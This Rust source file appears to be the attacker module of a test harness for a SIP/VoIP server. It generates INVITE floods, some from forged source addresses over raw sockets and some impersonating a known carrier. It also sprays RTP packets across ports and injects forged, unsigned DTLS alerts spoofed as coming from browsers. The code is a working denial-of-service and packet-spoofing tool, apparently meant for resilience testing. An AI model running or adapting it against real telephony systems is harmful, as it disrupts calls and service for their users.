//! The attacker.

use std::net::{Ipv4Addr, SocketAddr, UdpSocket};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use socket2::{Domain, Protocol, Socket, Type};

use crate::branch::{self, BROWSERS_AT, PHONES, PORTS, SHARED};
use crate::legs::STRANGE;
use crate::strangers::{Got, Packets};

const INVITES: u64 = 5_000;
/// As many with sound in the clear as of every other kind.
const PACKETS: u64 = 20_000;
const STRANGER: [u8; 4] = [203, 0, 113, 66];
/// Strangers at the browsers' own address, as people behind one router are.
const NEIGHBOURS: usize = 4;
/// The known carrier, whose address is forged.
const CARRIER: [u8; 4] = [192, 0, 2, 100];

/// What is sent.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// INVITEs from one address.
    OneSource,
    /// INVITEs from 198.18.0.0/16 (RFC 2544), forged.
    Spoofed,
    /// INVITEs for numbers that exist, from the known carrier's address, forged.
    Carrier,
    /// RTP, and whatever a browser could send, from one address and from the browsers' own to every port.
    Spray,
    /// Hellos, alerts and checks to the ports that browsers share.
    Handshakes,
}

impl Kind {
    pub fn name(self) -> &'static str {
        match self {
            Kind::OneSource => "one-source",
            Kind::Spoofed => "spoofed",
            Kind::Carrier => "forged-carrier",
            Kind::Spray => "rtp-spray",
            Kind::Handshakes => "handshakes",
        }
    }
}

/// What a stranger knows, who has seen everything but the passwords.
#[derive(Debug, Default, Clone)]
pub struct Known {
    /// Ports of calls that are up.
    pub busy: Vec<u16>,
    /// The names of the box's ends of browsers' legs.
    pub names: Vec<String>,
    /// Where those browsers are, and the shared ports that they come to.
    pub browsers: Vec<(SocketAddr, u16)>,
}

/// An attack that goes on.
pub struct Attack(JoinHandle<(u64, Got)>);

impl Attack {
    /// Begins one on `target`, of which so much is known.
    pub fn start(
        kind: Kind,
        target: [u8; 4],
        going: Arc<AtomicBool>,
        known: Arc<Mutex<Known>>,
    ) -> Attack {
        Attack(std::thread::spawn(move || Strangers::new(kind, target).run(&going, &known)))
    }

    /// Ends it. Answers how many packets were sent, and what came back.
    pub fn stop(self, going: &AtomicBool) -> (u64, Got) {
        going.store(false, Ordering::Relaxed);
        self.0.join().expect("it ends")
    }
}

struct Strangers {
    kind: Kind,
    target: [u8; 4],
    /// The one far away, and those at the browsers' address.
    own: Vec<UdpSocket>,
    raw: Socket,
    packets: Packets,
}

impl Strangers {
    fn new(kind: Kind, target: [u8; 4]) -> Strangers {
        let at = |host: [u8; 4], port: u16| {
            let socket = UdpSocket::bind(SocketAddr::from((host, port))).expect("an address");
            socket.set_nonblocking(true).expect("no waiting");
            socket
        };
        let neighbours = (0..NEIGHBOURS).map(|_| at(BROWSERS_AT, 0));
        let own = std::iter::once(at(STRANGER, 5_060)).chain(neighbours).collect();
        let raw = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::UDP)).expect("root");
        raw.set_header_included_v4(true).expect("a raw socket");
        Strangers { kind, target, own, raw, packets: Packets::new() }
    }

    fn run(&mut self, going: &AtomicBool, known: &Mutex<Known>) -> (u64, Got) {
        let rate = match self.kind {
            Kind::Spray | Kind::Handshakes => PACKETS,
            _ => INVITES,
        };
        let began = Instant::now();
        let (mut sent, mut got) = (0, Got::default());
        let mut buffer = [0; 65_536];
        while going.load(Ordering::Relaxed) {
            let due = (began.elapsed().as_secs_f64() * rate as f64) as u64;
            let known = known.lock().expect("nobody fails").clone();
            self.packets.know(&known.names);
            while sent < due {
                match self.kind {
                    Kind::Spray => self.spray(sent, &known),
                    Kind::Handshakes => self.shake(sent, &known),
                    kind => send(kind, sent, &self.own[0], &self.raw, self.target),
                }
                sent += 1;
            }
            for own in &self.own {
                while let Ok((length, _)) = own.recv_from(&mut buffer) {
                    got.note(&buffer[..length]);
                }
            }
            std::thread::sleep(Duration::from_micros(200));
        }
        (sent, got)
    }

    /// Every second packet is sound in the clear. Every second of these, and of the others, goes to a port that has a call,
    /// and the rest to all in turn.
    fn spray(&self, number: u64, known: &Known) {
        let round = number / 2;
        let first = *SHARED.start();
        let all = u64::from(*PORTS.end() - first) + 1;
        let port = match known.busy.get(round as usize / 2 % known.busy.len().max(1)) {
            Some(port) if round.is_multiple_of(2) => *port,
            _ => first + (round / 2 % all) as u16,
        };
        let to = SocketAddr::from((self.target, port));
        if number.is_multiple_of(2) {
            let mut packet = [STRANGE; 172];
            packet[0] = 0x80;
            packet[1] = 0;
            packet[2..4].copy_from_slice(&(number as u16).to_be_bytes());
            let _ = self.own[0].send_to(&packet, to);
        } else {
            let who = &self.own[round as usize % self.own.len()];
            let _ = who.send_to(self.packets.nth(round / all + round), to);
            if round.is_multiple_of(64) {
                self.forge(round, known);
            }
        }
    }

    /// All to the ports that browsers share.
    fn shake(&self, number: u64, known: &Known) {
        let ports = &known.busy;
        let Some(port) = ports.get(number as usize % ports.len().max(1)) else { return };
        let who = &self.own[number as usize % self.own.len()];
        let _ = who.send_to(self.packets.nth(number), SocketAddr::from((self.target, *port)));
        if number.is_multiple_of(8) {
            self.forge(number, known);
        }
    }

    /// An alert that nobody has signed, as from the browser itself.
    fn forge(&self, number: u64, known: &Known) {
        let Some((from, port)) = known.browsers.get(number as usize % known.browsers.len().max(1))
        else {
            return;
        };
        let std::net::IpAddr::V4(ip) = from.ip() else { return };
        let alert = [21, 254, 253, 0, 0, 0, 0, 0, 0, 0, number as u8, 0, 2, 2, 40];
        let packet = datagram((ip.octets(), from.port()), (self.target, *port), &alert);
        let _ = self.raw.send_to(&packet, &SocketAddr::from((self.target, 0)).into());
    }
}

fn send(kind: Kind, number: u64, own: &UdpSocket, raw: &Socket, target: [u8; 4]) {
    let nobody = 100 + number % 9_000;
    let forge = |source: [u8; 4], user: u64, to: &str| {
        let invite = invite(source, number, user, to);
        let packet = datagram((source, 5_060), (branch::HOST, 5_060), invite.as_bytes());
        let _ = raw.send_to(&packet, &SocketAddr::from((target, 0)).into());
    };
    match kind {
        Kind::OneSource => {
            let invite = invite(STRANGER, number, nobody, &nobody.to_string());
            let _ = own.send_to(invite.as_bytes(), SocketAddr::from((target, 5_060)));
        }
        Kind::Spoofed => {
            // All of the network, in an order that no cache can follow.
            let host = (number.wrapping_mul(40_503) & 0xffff) as u16;
            let [a, b] = host.to_be_bytes();
            forge([198, 18, a, b], nobody, &nobody.to_string());
        }
        Kind::Carrier => {
            let phone = 2_000 + number % PHONES as u64;
            forge(CARRIER, number, &format!("+1555{phone}"));
        }
        Kind::Spray | Kind::Handshakes => {}
    }
}

fn invite(source: [u8; 4], number: u64, user: u64, to: &str) -> String {
    let at = Ipv4Addr::from(source);
    let body = crate::sip::sdp(SocketAddr::from((source, 4_000)));
    format!(
        "INVITE sip:{to}@192.0.2.1 SIP/2.0\r\nVia: SIP/2.0/UDP {at}:5060;branch=z9hG4bKf{number};rport\r\n\
         From: <sip:{user}@192.0.2.1>;tag=f{number}\r\nTo: <sip:2000@192.0.2.1>\r\nCall-ID: flood{number}@{at}\r\n\
         CSeq: 1 INVITE\r\nMax-Forwards: 70\r\nContact: <sip:{user}@{at}:5060>\r\nContent-Type: application/sdp\r\n\
         Content-Length: {}\r\n\r\n{body}",
        body.len()
    )
}

/// IPv4 and UDP headers around `payload`; a UDP checksum of zero is none (RFC 768), and the kernel fills in the other.
fn datagram(source: ([u8; 4], u16), target: ([u8; 4], u16), payload: &[u8]) -> Vec<u8> {
    let total = (28 + payload.len()) as u16;
    let mut packet = vec![0x45, 0];
    packet.extend(total.to_be_bytes());
    packet.extend([0, 0, 0, 0, 64, 17, 0, 0]);
    packet.extend(source.0);
    packet.extend(target.0);
    packet.extend(source.1.to_be_bytes());
    packet.extend(target.1.to_be_bytes());
    packet.extend((total - 20).to_be_bytes());
    packet.extend([0, 0]);
    packet.extend(payload);
    packet
}
